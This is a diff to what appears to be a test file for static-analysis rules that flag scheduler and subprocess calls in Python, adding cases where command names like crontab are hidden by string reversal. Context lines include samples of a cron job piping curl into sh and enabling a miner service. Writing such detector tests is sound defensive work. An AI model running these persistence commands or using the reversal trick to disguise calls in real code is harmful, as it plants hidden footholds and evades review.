@@ -320,6 +320,21 @@ subprocess.run(["crontab", "-"], input=b"* * * * * curl x | sh")
 subprocess.run(["/usr/bin/systemctl", "--user", "enable", "miner.service"])
 # ruleid: scheduler-command, os-exec
 os.execv("/usr/bin/at", ["at", "now", "+", "1", "minute"])
+# a one-line helper that reverses (or decodes) a constant folds through
+_rev = lambda s: s[::-1]  # noqa: E731
+
+
+def _unrev(s):
+    return s[::-1]
+
+
+# ruleid: scheduler-command, subprocess-call, process-partial-path-list
+subprocess.run([_rev("batnorc"), "-"], input=b"x")
+# ruleid: scheduler-command, subprocess-call, process-partial-path-list
+subprocess.run([_unrev("batnorc"), "-l"])
+# ok: scheduler-command
+# ruleid: subprocess-call, process-partial-path-list
+subprocess.run([_unrev("tac"), "notes.txt"])
 # ok: scheduler-command
 # ruleid: subprocess-call
 subprocess.run(["/usr/bin/systemctl", "status", "nginx"])
